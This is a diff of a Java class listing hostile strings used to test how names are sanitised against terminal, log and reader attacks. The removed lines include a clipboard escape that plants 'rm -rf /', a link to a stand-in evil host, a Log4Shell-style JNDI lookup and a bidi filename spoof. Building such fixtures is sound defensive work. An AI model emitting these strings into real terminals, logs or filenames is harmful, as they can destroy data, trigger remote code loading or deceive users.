@@ -1,119 +1,37 @@
 package dev.consort.protocol.text;
 
-import java.util.ArrayList;
+import dev.consort.protocol.wire.JsonText;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.UncheckedIOException;
 import java.util.List;
+import java.util.Map;
 import java.util.stream.Collectors;
 
-/** What has been put into names to attack terminals, logs and readers. */
+/**
+ * What has been put into names to attack terminals, logs and readers: {@code hostile-texts.json}, by family. The other
+ * modules read the same file. A text that consists of one part many times is an object with the part and how often.
+ */
 final class HostileTexts {
-    private static final String ESC = "\u001b";
-    private static final String BEL = "\u0007";
-    private static final String ST = ESC + "\\";
-
     static final List<String> ALL = all();
 
     private HostileTexts() {}
 
     private static List<String> all() {
-        List<String> texts = new ArrayList<>();
-        texts.addAll(sequences());
-        texts.addAll(eightBit());
-        texts.addAll(controls());
-        texts.addAll(directions());
-        texts.addAll(invisible());
-        texts.addAll(broken());
-        texts.addAll(marks());
-        return texts;
+        try (InputStream file = HostileTexts.class.getResourceAsStream("/hostile-texts.json")) {
+            return JsonText.read(file).values().stream()
+                    .flatMap(family -> ((List<?>) family).stream())
+                    .map(HostileTexts::text)
+                    .toList();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 
-    private static List<String> sequences() {
-        return List.of(
-                ESC + "]52;c;cm0gLXJmIC8K" + BEL,
-                ESC + "]52;c;?" + ST,
-                ESC + "]0;title" + BEL,
-                ESC + "]2;title" + ST,
-                ESC + "]8;;http://evil" + ST + "click" + ESC + "]8;;" + ST,
-                ESC + "]4;1;?" + BEL,
-                ESC + "]10;?" + BEL,
-                ESC + "]1337;File=inline=1:AAAA" + BEL,
-                ESC + "]9;notify" + BEL,
-                ESC + "[2J",
-                ESC + "[H",
-                ESC + "[31m",
-                ESC + "[6n",
-                ESC + "[c",
-                ESC + "[?1049h",
-                ESC + "[?2004h",
-                ESC + "[?1000h",
-                ESC + "[20t",
-                ESC + "[21t",
-                ESC + "[1000000000b",
-                ESC + "P+q544e" + ST,
-                ESC + "P1$r0m" + ST,
-                ESC + "Pq#0;2;0;0;0" + ST,
-                ESC + "_Gf=24" + ST,
-                ESC + "^private" + ST,
-                ESC + "Xstring" + ST,
-                ESC + "c",
-                ESC + "7" + ESC + "8",
-                ESC + "(0",
-                ESC + "#8");
-    }
-
-    private static List<String> eightBit() {
-        return List.of("\u009b31m", "\u009d0;t\u009c", "\u0090q\u009c", "\u0098x\u009c", "\u009f", "\u0085", "\u0084");
-    }
-
-    private static List<String> controls() {
-        return List.of("\r", "\n", "\r\nfake: line", "\t", "\b\b\b", "\u000b", "\f", "\u000e", "\u007f", "\u0000");
-    }
-
-    private static List<String> directions() {
-        return List.of(
-                "\u202etxt.exe",
-                "\u202d",
-                "\u202a",
-                "\u202b",
-                "\u202c",
-                "\u2066",
-                "\u2067",
-                "\u2068",
-                "\u2069",
-                "\u200e",
-                "\u200f",
-                "\u061c");
-    }
-
-    private static List<String> invisible() {
-        return List.of(
-                "\u200b",
-                "\u200c",
-                "\u200d",
-                "\u2060",
-                "\ufeff",
-                "\u00ad",
-                "\u180e",
-                "\u3164",
-                "\u115f",
-                "\u1160",
-                "\uffa0",
-                "\u2800",
-                "\u034f",
-                "\ufe0f",
-                "\u2028",
-                "\u2029",
-                "\udb40\udc41",
-                "\udb40\udd00",
-                "\ue000",
-                "\udbff\udffd");
-    }
-
-    private static List<String> broken() {
-        return List.of("\ud800", "\udfff", "\ude00\ud83d", "\ud83d\u200b\ude00", "\uffff", "\ufffe", "\ud83f\udfff");
-    }
-
-    private static List<String> marks() {
-        return List.of("\u0301".repeat(300), "e" + "\u0489".repeat(50), "\u20dd\u20de", "${jndi:ldap://x}" + ESC);
+    private static String text(Object json) {
+        return json instanceof Map<?, ?> part
+                ? ((String) part.get("text")).repeat(((Long) part.get("times")).intValue())
+                : (String) json;
     }
 
     /** The code points that a terminal, a log or a reader could stumble over, in words. */
